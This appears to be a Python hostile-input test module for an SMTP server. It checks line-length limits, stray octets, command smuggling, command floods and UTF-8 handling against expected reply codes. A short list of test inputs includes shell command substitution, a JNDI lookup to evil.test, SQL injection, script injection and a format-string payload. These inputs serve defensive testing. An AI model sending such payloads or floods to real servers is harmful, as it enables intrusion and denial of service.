"""E: command lines and limits. A command is what the grammar says, or is refused; memory stays flat.

The list gives these bullets no codes; here E1 is line lengths, E2 addresses (``addresses``), E3 octets that no command holds, E4 parameters
(``parameters``), E5 floods, E6 slowness (``tests.hostile.scenes``), E7 UTF-8 without SMTPUTF8.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tests.hostile.case import Case, Setup, Turn, Waiting
from tests.hostile.table.dialogue import DATA, EHLO, MAIL, NOOP, OPENED, RCPT, command, good_message, row
from tests.hostile.table.starttls import GOOD

#: RFC 5321 4.5.3.1.4 asks for 512 octets; the extensions add to it, and Penstock takes 2048 with the CRLF.
_LINE_LIMIT: Final = 2048
_LENGTHS: Final = (510, 512, 998, 999, 1000, 1001, 2046, 2047, 2048, 4096, 65_535, 65_536, 65_537, 1_000_000)
#: Mail data held beyond its limit, and a line beyond its own, are one segment at most; rows send a row's whole turn as one.
_HELD: Final = 4096
CRLF: Final = b"\r\n"


_E1_ROWS: Final[tuple[Case, ...]] = (
    row(
        "E1-header-million",
        "a message of one header field of a million octets, folded into lines that are short enough",
        *OPENED,
        Turn(b"X: " + b" x" * 20 + (b"\r\n " + b"y" * 900) * 1000 + b"\r\n\r\nbody\r\n.\r\n", ("250",)),
        stores=(b"X: " + b" x" * 20 + (b"\r\n " + b"y" * 900) * 1000 + b"\r\n\r\nbody\r\n",),
    ),
    row(
        "E1-no-end",
        "a command of a million octets that does not end",
        EHLO,
        Turn(b"x" * 1_000_000, ("500 5.5.2",)),
        held=_HELD,
        has_quit=False,
    ),
    row(
        "E1-no-end-lf",
        "lines that end with LF only, one after the other: one error, and nothing of it a command",
        EHLO,
        Turn(b"MAIL FROM:<a@b.test>\n" * 1000, ("501 5.5.2|500",)),
        held=_HELD,
        has_quit=False,
        absent=(b"a@b.test",),
    ),
)


def _e1() -> Iterator[Case]:
    for length in _LENGTHS:
        line = b"NOOP " + b"x" * (length - 5)
        yield row(
            f"E1-command-{length}",
            f"a command line of {length} octets",
            EHLO,
            command(line, "250" if length + 2 <= _LINE_LIMIT else "500 5.5.2"),
            NOOP,
            held=_HELD,
        )
        yield row(
            f"E1-command-{length}-hiding",
            f"a command line of {length} octets, whose end would be a command by itself",
            EHLO,
            command(b"x" * length + b"MAIL FROM:<smuggled@b.test>", "500"),
            command(b"RCPT TO:<c@a.test>", "503"),
            absent=(b"smuggled",),
            held=_HELD,
        )
        for what, before in {"header": b"", "body": b"Subject: x\r\n\r\n"}.items():
            content = before + b"x" * length + b"\r\n"
            is_good = length <= 998
            yield row(
                f"E1-{what}-{length}",
                f"a {what} line of {length} octets",
                *OPENED,
                Turn(content + b".\r\n", ("250" if is_good else "500 5.2.3",)),
                *good_message(),
                stores=(content, GOOD) if is_good else (GOOD,),
            )
    for length in (1000, 1500):
        name = b"x" * length
        yield row(
            f"E1-ehlo-{length}",
            f"EHLO with a name of {length} octets",
            command(b"EHLO " + name, "501"),
            EHLO,
        )


_CONTROLS: Final = (*range(10), 11, 12, *range(14, 32), 127)


def _e3() -> Iterator[Case]:
    for octet in _CONTROLS:
        character = bytes((octet,))
        yield row(
            f"E3-control-{octet:02x}",
            f"the control {octet:#04x} in MAIL, RCPT, EHLO and NOOP",
            command(b"EHLO a" + character + b"b", "501"),
            EHLO,
            command(b"MAIL FROM:<a" + character + b"@b.test>", "501"),
            command(b"MAIL FROM:<a@b" + character + b".test>", "501"),
            command(b"MAIL FROM:<a@b.test>" + character, "501"),
            command(b"NOOP " + character, "501"),
            command(character, "501|500"),
            command(b"RCPT TO:<c@a.test>", "503"),
            absent=(character,) if octet else (),
        )
    for octet in range(128, 256):
        character = bytes((octet,))
        yield row(
            f"E3-octet-{octet:02x}",
            f"the octet {octet:#04x}, which is no UTF-8 by itself",
            EHLO,
            command(b"MAIL FROM:<a" + character + b"@b.test>", "501|553"),
            command(b"MAIL FROM:<a" + character + b"@b.test> SMTPUTF8", "501|553"),
            command(character * 4, "500|501"),
            command(b"RCPT TO:<c@a.test>", "503"),
            absent=(character,),
        )
    for what, line in {
        "random": b"\x80\x81\x82\x83",
        "escape": b"\x1b[2J\x1b[1;1HMAIL",
        "format": b"%s%s%s%n",
        "html": b"<script>alert(1)</script>",
        "shell": b"`id`$(id);|&",
        "sql": b"' OR 1=1 --",
        "jndi": b"${jndi:ldap://evil.test/x}",
        "brackets": b"{0}{evil}",
        "reply": b"250 ok",
        "utf-16": "MAIL FROM:<a@b.test>".encode("utf-16-le"),
        "bom": b"\xef\xbb\xbfEHLO x",
        "nothing": b"",
        "space": b" ",
        "space-verb": b" NOOP",
        "tab-verb": b"NOOP\tx",
        "no-break-space": b"NOOP\xc2\xa0x",
        "turkish": "Maİl FROM:<a@b.test>".encode(),
        "long-s": "REſET".encode(),
        "kelvin": b"KELO x",
    }.items():
        yield row(
            f"E3-line-{what}",
            f"the line {line!r}",
            EHLO,
            Turn(line + b"\r\n", ("500|501",), lacks=(line,) if len(line) > 3 else ()),
            command(b"NOOP", "250"),
        )


_FLOODS: Final[dict[str, tuple[bytes, str]]] = {
    "rset": (b"RSET\r\n" * 100_000, "250"),
    "noop": (b"NOOP\r\n" * 100_000, "250"),
    "ehlo": (b"EHLO client.test\r\n" * 10_000, "250"),
    "vrfy": (b"VRFY x\r\n" * 10_000, "252|502"),
    "mail": (b"MAIL FROM:<a@b.test>\r\nRSET\r\n" * 50_000, "250"),
}

_E5_ROWS: Final[tuple[Case, ...]] = (
    row(
        "E5-rcpt",
        "a hundred thousand RCPT: those over the limit are refused one by one",
        EHLO,
        MAIL,
        Turn(
            b"".join(b"RCPT TO:<%d@a.test>\r\n" % number for number in range(100_000)),
            None,
            each="250|452 4.5.3",
            has=(b"452 4.5.3",),
        ),
        command(b"RSET", "250"),
        setup=Setup(max_recipients_per_message=100),
        is_flood=True,
    ),
    row(
        "E5-rcpt-limit",
        "one RCPT more than the limit: 452, and the transaction goes on without it",
        EHLO,
        MAIL,
        Turn(RCPT.sent * 3 + b"RCPT TO:<fourth@a.test>\r\n", ("250", "250", "250", "452 4.5.3")),
        DATA,
        Turn(GOOD + b".\r\n", ("250",)),
        setup=Setup(max_recipients_per_message=3),
        stores=(GOOD,),
    ),
    row(
        "E5-mail-twice",
        "MAIL over and over in one transaction: errors, then the end",
        EHLO,
        MAIL,
        Turn(b"MAIL FROM:<a@b.test>\r\n" * 30, None, closes=True, each="503|421 4.7.0", has=(b"421 4.7.0",)),
    ),
    row(
        "E5-errors-message",
        "a good message between errors begins their count anew, a refused one does not",
        EHLO,
        Turn(b"XYZZY\r\n" * 15, ("500",) * 15),
        *good_message(),
        Turn(b"XYZZY\r\n" * 15, ("500",) * 15),
        stores=(GOOD,),
    ),
    row("E5-expn", "EXPN is off", EHLO, command(b"EXPN list", "500|502")),
    row(
        "E5-vrfy-says-nothing",
        "VRFY says nothing about anybody",
        EHLO,
        Turn(b"VRFY root\r\n", ("252|502",), lacks=(b"root",)),
    ),
    row(
        "E5-messages",
        "more messages in a connection than it may have",
        EHLO,
        *good_message(),
        *good_message(),
        command(b"MAIL FROM:<a@b.test>", "421|452", closes=None),
        setup=Setup(max_messages_per_connection=2),
        stores=(GOOD, GOOD),
        has_quit=False,
    ),
)


def _e5() -> Iterator[Case]:
    for what, (octets, answer) in _FLOODS.items():
        yield row(
            f"E5-{what}",
            f"{octets.count(CRLF):,} commands: {what.upper()}",
            EHLO,
            Turn(octets, None, each=answer),
            is_flood=True,
        )
    for what, line in {
        "unknown": b"XYZZY\r\n",
        "empty": b"\r\n",
        "syntax": b"MAIL FROM:a@b\r\n",
        "nul": b"\x00\r\n",
        "long": b"x" * 3000 + b"\r\n",
        "order": b"STARTTLS x\r\n",
        "quit-argument": b"QUIT now\r\n",
        "expn": b"EXPN x\r\n",
    }.items():
        yield row(
            f"E5-errors-{what}",
            f"more than twenty times {line[:12]!r}: the end",
            EHLO,
            Turn(line * 25 + b"NOOP\r\n", None, closes=True, each="5|421 4.7.0", has=(b"421 4.7.0",)),
        )


def _e7() -> Iterator[Case]:
    utf8 = "é".encode()
    yield row(
        "E7-utf8-everywhere",
        "UTF-8 in MAIL, RCPT and VRFY without SMTPUTF8, then DATA: errors, and the server lives",
        EHLO,
        command(b"MAIL FROM:<" + utf8 + b"@b.test>", "5"),
        command(b"RCPT TO:<" + utf8 + b"@a.test>", "5"),
        command(b"VRFY " + utf8, "5"),
        command(b"DATA", "503"),
    )
    yield row(
        "E7-utf8-rcpt",
        "UTF-8 in RCPT and VRFY of a transaction without SMTPUTF8, then DATA",
        EHLO,
        MAIL,
        command(b"RCPT TO:<" + utf8 + b"@a.test>", "553 5.6.7|501|550"),
        command(b"VRFY <" + utf8 + b"@a.test>", "5"),
        command(b"DATA", "503"),
        RCPT,
        DATA,
        Turn(b"x\r\n.\r\n", ("250",)),
        stores=(b"x\r\n",),
    )
    yield row(
        "E7-utf8-domain",
        "a domain of U-labels without SMTPUTF8",
        EHLO,
        command("MAIL FROM:<a@bücher.test>".encode(), "553 5.6.7|501"),
    )
    yield row("E7-utf8-ehlo", "EHLO with UTF-8", command("EHLO bücher.test".encode(), "250|501"), EHLO)
    yield row(
        "E7-vrfy-bad-utf8", "VRFY with what is no UTF-8", EHLO, command(b"VRFY \xff\xfe SMTPUTF8", "5|252")
    )


CASES: Final[tuple[Case, ...]] = (*_E1_ROWS, *_e1(), *_e3(), *_E5_ROWS, *_e5(), *_e7())
WAITING: Final = (
    Waiting(
        "E6-http-slow",
        "a header or body of HTTP that comes one octet at a time",
        "the HTTP listener's own table",
    ),
    Waiting(
        "E6-crowd-20000",
        "thousands of idle connections while mail flows",
        "make show K=relay-3 (8,000 connections, the machine's limit of open files permitting)",
    ),
)
